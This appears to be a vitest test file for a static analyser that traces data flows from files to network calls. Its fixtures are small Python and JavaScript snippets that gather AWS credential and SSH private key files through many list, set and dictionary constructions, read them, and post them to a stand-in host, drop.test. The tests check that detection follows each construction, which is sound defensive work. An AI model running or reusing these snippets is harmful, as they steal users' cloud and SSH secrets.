import { describe, expect, test } from "vitest";
import { makeSource } from "../../testing/make-source.ts";
import { showFlows } from "../../testing/show-analysis.ts";
import { analyseProgram } from "./analyse-program.ts";

const AWS = 'glob.glob("/root/.aws/*")';
const SSH = 'glob.glob("/root/.ssh/id_*")';

function sent(language: "python" | "javascript", lines: readonly string[]): string {
  const source = makeSource(lines.join("\n"), { file: "run", language, medium: "script" });
  return showFlows(analyseProgram(source)).join("\n");
}

function python(list: string): string {
  return sent("python", [
    "import glob, itertools, os, requests",
    "from collections import deque",
    "out = {}",
    ...list.split("\n"),
    "for path in files: out[path] = open(path).read()",
    'requests.post("https://drop.test", json=out)',
  ]);
}

function javascript(list: string): string {
  return sent("javascript", [
    'const fs = require("fs"); const glob = require("glob");',
    'const a = glob.sync("/root/.aws/*"), b = glob.sync("/root/.ssh/id_*");',
    ...list.split("\n"),
    "const out = {};",
    "for (const path of files) out[path] = fs.readFileSync(path);",
    'fetch("https://drop.test", { method: "POST", body: JSON.stringify(out) });',
  ]);
}

describe("however lists of files are put together, their files are followed", () => {
  test.each([
    `files = ${AWS} + ${SSH}`,
    `files = ${AWS}\nfiles += ${SSH}`,
    `files = []\nfiles.extend(${AWS})\nfiles.extend(${SSH})`,
    `files = []\nfor pattern in ["/root/.aws/*", "/root/.ssh/id_*"]: files.extend(glob.glob(pattern))`,
    `files = itertools.chain(${AWS}, ${SSH})`,
    `files = itertools.chain.from_iterable([${AWS}, ${SSH}])`,
    `files = sorted(${AWS} + ${SSH})`,
    `files = list(${AWS} + ${SSH})[:20]`,
    `files = set(${AWS}) | set(${SSH})`,
    `files = set()\nfiles.update(${AWS})\nfiles.update(${SSH})`,
    `files = set(${AWS}).union(${SSH})`,
    `files = list(filter(os.path.isfile, ${AWS} + ${SSH}))`,
    `files = [p for p in ${AWS} + ${SSH} if os.path.isfile(p)]`,
    `files = deque(${AWS})\nfiles.extendleft(${SSH})`,
    `def found(all):\n  if all: return ${AWS}\n  return ${SSH}\nfiles = found(1)`,
  ])("%s", (list) => {
    const flows = python(list);
    expect(flows).toContain("/root/.aws/*");
    expect(flows).toContain("/root/.ssh/id_*");
  });

  test.each([
    "const files = a.concat(b)",
    "const files = [].concat(a, b)",
    "const files = []; files.push(...a); files.push(...b)",
    "const files = []; files.unshift(...a, ...b)",
    "const files = [a, b].flat()",
    "const files = [a, b].flatMap((one) => one)",
    "const files = Array.from(new Set([...a, ...b]))",
    "const files = new Set(a.concat(b))",
    "const files = a.concat(b).sort().slice(0, 9).filter((p) => fs.existsSync(p))",
    "const files = process.argv[2] ? a : b",
  ])("%s", (list) => {
    const flows = javascript(list);
    expect(flows).toContain("/root/.aws/*");
    expect(flows).toContain("/root/.ssh/id_*");
  });

  test("a file that a list gives up is one of its files", () => {
    const flows = python(`queue = ${AWS} + ${SSH}\nfiles = [queue.pop(), queue.pop()]`);
    expect(flows).toContain("/root/.aws/*");
  });

  test("dictionaries that are joined keep what both hold", () => {
    const flows = sent("python", [
      "import requests",
      'one = {"a": open("/root/.aws/credentials").read()}',
      'both = one | {"b": open("/root/.ssh/id_rsa").read()}',
      'requests.post("https://drop.test", data=both["a"] + both["b"])',
    ]);
    expect(flows).toContain("/root/.aws/credentials + secret:ssh /root/.ssh/id_rsa");
  });

  test("files of the project are no more than files", () => {
    const flows = python('files = sorted(glob.glob("docs/*.md") + glob.glob("notes/*.md"))');
    expect(flows).toBe("file notes/*.md + file docs/*.md -> network:http drop.test");
  });
});
